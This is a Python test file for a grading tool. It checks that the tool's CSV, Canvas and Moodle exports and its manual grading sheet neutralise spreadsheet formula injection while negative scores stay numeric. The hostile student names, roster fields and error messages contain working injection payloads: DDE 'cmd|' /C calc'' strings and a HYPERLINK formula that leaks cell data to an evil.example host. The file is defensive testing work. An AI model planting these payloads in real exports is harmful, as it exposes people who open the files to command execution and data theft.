"""Spreadsheet formula injection (OWASP "CSV Injection"): student-chosen text never starts a formula in any CSV-like export.

An attacker names their file or LMS account ``=HYPERLINK(...)`` or ``@SUM(...)``; a TA opens grades.csv
in a spreadsheet. Every text cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a CR is written with
a leading ``'``; numbers the grader wrote (a score of -1.5 after a late penalty) stay numbers.
"""

from __future__ import annotations

import csv
import io

import pytest

from grader.exports import EXPORTERS, ExportContext
from grader.exports.base import FORMULA_STARTS
from grader.lms.roster import Roster, RosterEntry
from grader.manual.sheet import read_sheet, write_sheet
from grader.results import CheckStatus
from tests.reports.samples import check, result

HOSTILE_NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def hostile_results():
    results = []
    for index, name in enumerate(HOSTILE_NAMES):
        checks = [check("ex1-forward", "Ex 1", 5, 1, CheckStatus.partial, "=1+1 is what your function returned.")]
        results.append(result(name, checks, graded=index % 2 == 0, error=None if index % 2 == 0 else "=cmd|' /C calc'!A0 is not a notebook", late_penalty=2.5))
    return results


def hostile_roster(lms: str) -> Roster:
    students = {name: RosterEntry(student=name, name=name, login=name, lms_user_id=f"{100 + index}", email="@evil.example", id_number="-1", section="+A") for index, name in enumerate(HOSTILE_NAMES)}
    return Roster(lms=lms, source="submissions.zip", students=students)


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(rows: list[list[str]], numeric_columns: set[str]) -> None:
    header = rows[0]
    for row in rows:
        for column, value in zip(header, row):
            if column in numeric_columns and row is not header:
                float(value or 0)  # a number stays a number, negative ones included
            else:
                assert not value.startswith(FORMULA_STARTS), f"{column}={value!r} would run as a formula"


@pytest.mark.parametrize(
    "format_name, lms, numeric",
    [
        ("csv", None, {"score", "max_score", "pending_points", "late_penalty", "ex1-forward"}),
        ("canvas", "canvas", {"pw06-mlp"}),
        ("moodle", "moodle", {"Grade", "Maximum Grade"}),
    ],
)
def test_every_csv_export_neutralises_formulas(tmp_path, format_name, lms, numeric):
    context = ExportContext(rosters={"pw06-mlp": hostile_roster(lms)} if lms else {})
    path = EXPORTERS[format_name](context).write(hostile_results(), tmp_path / f"{format_name}.csv")
    rows = cells(path.read_bytes().decode("utf-8"))
    assert_inert([row for row in rows if row[0] != "Points Possible"], numeric)
    text = path.read_bytes().decode("utf-8")
    assert "'=HYPERLINK(" in text and "'@SUM(1+1)" in text
    if format_name != "canvas":  # Canvas's score column is headed by the assignment
        score_column = "score" if format_name == "csv" else "Grade"
        assert "-1.5" in {row[rows[0].index(score_column)] for row in rows[1:]}


def test_a_hostile_column_name_is_neutralised_too(tmp_path):
    path = EXPORTERS["canvas"](ExportContext(column="=cmd|' /C calc'!A0")).write(hostile_results(), tmp_path / "canvas.csv")
    assert cells(path.read_text(encoding="utf-8"))[0][-1] == "'=cmd|' /C calc'!A0"


def test_manual_sheet_is_inert_and_reads_back_the_real_ids(tmp_path):
    rows = [(name, "ex5-review", 5.0, None if index % 2 else 2.5, "=1+1 is right" if index % 2 == 0 else "") for index, name in enumerate(HOSTILE_NAMES)]
    sheet = write_sheet(rows, tmp_path / "pw06-mlp-manual.csv")
    assert_inert(cells(sheet.read_text(encoding="utf-8")), {"points_possible", "points"})
    read = read_sheet(sheet)
    assert [row.student for row in read] == HOSTILE_NAMES
    assert read[0].comment == "=1+1 is right" and read[0].points == 2.5 and read[1].points is None
